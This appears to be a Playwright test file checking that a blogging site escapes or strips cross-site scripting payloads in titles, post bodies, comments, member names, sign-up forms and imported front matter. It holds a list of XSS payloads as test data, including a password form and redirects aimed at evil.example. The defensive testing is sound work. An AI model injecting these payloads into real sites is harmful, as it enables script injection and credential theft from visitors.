import type { Page } from '@playwright/test';

import { field } from '../../support/forms';
import { comment, commentOn } from '../../support/comments';
import { fillSignUp, somebody, unique } from '../../support/people';
import { editor, publish } from '../../support/posts';
import { expect, test } from '../../support/test';

/** Ways to run something, each of which would open a dialog, which fails every test. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '"><svg onload=alert(3)>',
  "'-alert(4)-'",
  '</title></textarea></style><script>alert(5)</script>',
  '{{alert(6)}}${alert(7)}',
];

/** Nothing on the page may be able to run something, whatever its policy says. */
async function expectHarmless(page: Page): Promise<void> {
  const main = page.getByRole('main');
  await expect(main.locator('script, iframe, object, embed, svg, base, style, link, meta, form[action^="http"]')).toHaveCount(0);
  const handlers = await page.evaluate(() =>
    [...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes]
        .filter(({ name, value }) => name.startsWith('on') || /^\s*(javascript|data|vbscript):/i.test(value))
        .map(({ name, value }) => `${element.localName} ${name}=${value}`),
    ),
  );
  expect(handlers).toEqual([]);
}

test('script in a title, a standfirst and a tag is shown as text, everywhere', async ({ page, signedIn, openBrowser }) => {
  await signedIn('author', page);
  const stranger = await openBrowser();
  for (const attack of [ATTACKS.join(' '), ATTACKS.toReversed().join(' ')]) {
    const title = `${attack} ${unique()}`;
    const tag = attack.slice(0, 40).trim();
    const post = await publish(page, { title, standfirst: `Standfirst ${attack}`, tags: tag, body: 'Fine.' });
    for (const path of [post.path, '/']) {
      await stranger.goto(path);
      await expect(stranger.getByRole('heading', { name: title })).toBeVisible();
      await expect(stranger.getByText(`Standfirst ${attack}`)).toBeVisible();
      await expectHarmless(stranger);
    }
    await stranger.getByRole('article').filter({ hasText: title }).getByRole('link', { name: tag, exact: true }).click();
    await expect(stranger.getByRole('heading', { level: 1 })).toHaveText(tag);
    await expectHarmless(stranger);
    for (const path of ['/write', post.preview]) {
      await page.goto(path);
      await expect(page.getByRole('heading', { name: title })).toBeVisible();
      await expectHarmless(page);
    }
    await page.goto(post.editor);
    await expect(editor(page).title).toHaveValue(title);
    await expect(page.locator('script')).toHaveCount(1);
  }
});

test('script in the text of a post is taken out', async ({ page, signedIn, openBrowser, watch }) => {
  // Pictures that are left of attacks are not there.
  watch.expectStatus(404);
  await signedIn('author', page);
  const body = [
    'Before.',
    ...ATTACKS,
    '[go](javascript:alert(10)) <javascript:alert(11)> ![x](javascript:alert(12))',
    '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=)',
    '<a href="java&#x0A;script:alert(14)">a</a> <a href=" javascript:alert(15)">b</a>',
    '<iframe srcdoc="<script>parent.alert(16)</script>"></iframe>',
    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(17)">go</button></form>',
    '<p style="position:fixed;inset:0">over everything</p><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(18)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(19)>">',
    '`<script>alert(20)</script>`',
    '```html\n<script>alert(21)</script>\n```',
    '| <script>alert(22)</script> |\n|---|\n| x |',
    '# <img src=x onerror=alert(23)> heading',
    'After.',
  ].join('\n\n');
  const post = await publish(page, { title: `Hostile ${unique()}`, body });
  const stranger = await openBrowser();
  await stranger.goto(post.path);
  await expect(stranger.getByText('Before.')).toBeVisible();
  await expect(stranger.getByText('After.')).toBeVisible();
  await expect(stranger.getByRole('code').filter({ hasText: '<script>alert(20)</script>' })).toBeVisible();
  await expectHarmless(stranger);
  await expect(stranger.getByRole('main').locator('[style], input[name=password]')).toHaveCount(0);
});

test('script in a comment is taken out', async ({ page, signedIn, openBrowser }) => {
  await signedIn('author', page);
  const post = await publish(page, { title: `Commented ${unique()}` });
  for (const [index, attack] of ATTACKS.entries()) await commentOn(page, post.id, `Comment ${index} ${attack}\n\n${attack}`);
  await commentOn(page, post.id, 'Link [go](javascript:alert(30)) ![pixel](https://tracker.example/p.gif) # no heading');
  const stranger = await openBrowser();
  await stranger.goto(post.path);
  for (const index of ATTACKS.keys()) await expect(comment(stranger, `Comment ${index}`)).toBeVisible();
  await expectHarmless(stranger);
});

test('script in a name is shown as text, everywhere', async ({ page, site, openBrowser }) => {
  const [script, image, svg, quotes, closing, template] = ATTACKS;
  for (const name of [`${script} ${image} ${svg}`, closing, `${quotes} ${template}`]) {
    const member = somebody(name);
    const theirs = await openBrowser();
    await theirs.goto('/sign-up');
    await fillSignUp(theirs, member);
    await theirs.goto('/settings');
    await expect(theirs.getByText(member.name, { exact: true })).toBeVisible();
    await expectHarmless(theirs);
    await site.command(['member', 'role', member.email, 'author']);
    const post = await publish(theirs, { title: `Signed ${unique()}` });
    await commentOn(theirs, post.id, 'My own.');
    await page.goto(post.path);
    await expect(comment(page, 'My own.')).toContainText(member.name);
    await page.getByRole('link', { name: member.name }).first().click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(member.name);
    await expectHarmless(page);
  }
});

test('a refused form shows script as text', async ({ page }) => {
  for (const attack of [ATTACKS.join(' '), ATTACKS.toReversed().join(' ')]) {
    await page.goto('/sign-up');
    await fillSignUp(page, { name: attack, email: attack, password: attack });
    await expect(page.getByRole('alert')).toBeVisible();
    await expect(field(page, 'Name')).toHaveValue(attack);
    await expectHarmless(page);
  }
});

test('script in imported front matter and text is shown as text or taken out', async ({ page, site, watch }) => {
  watch.expectStatus(404);
  const mark = unique();
  const front = (value: string) => JSON.stringify(value);
  const attack = ATTACKS.join(' ');
  await site.import({
    'toml.md': `+++\ntitle = ${front(`Toml ${mark} ${ATTACKS[0]}`)}\ndate = 2016-05-04\nauthors = [${front(`${ATTACKS[1]} Writer`)}]\ndescription = ${front(attack)}\n+++\n\nText ${attack}\n`,
    'yaml.md': `---\ntitle: ${front(`Yaml ${mark} ${ATTACKS[2]}`)}\ndate: 2016-05-05\nauthor: ${front(`${ATTACKS[4]} Writer`)}\n---\n\nText ${attack}\n`,
  });
  await page.goto('/archive/2016');
  for (const title of [`Toml ${mark} ${ATTACKS[0]}`, `Yaml ${mark} ${ATTACKS[2]}`]) {
    await page.goto('/archive/2016');
    await expectHarmless(page);
    await page.getByRole('link', { name: title }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(title);
    await expectHarmless(page);
  }
});
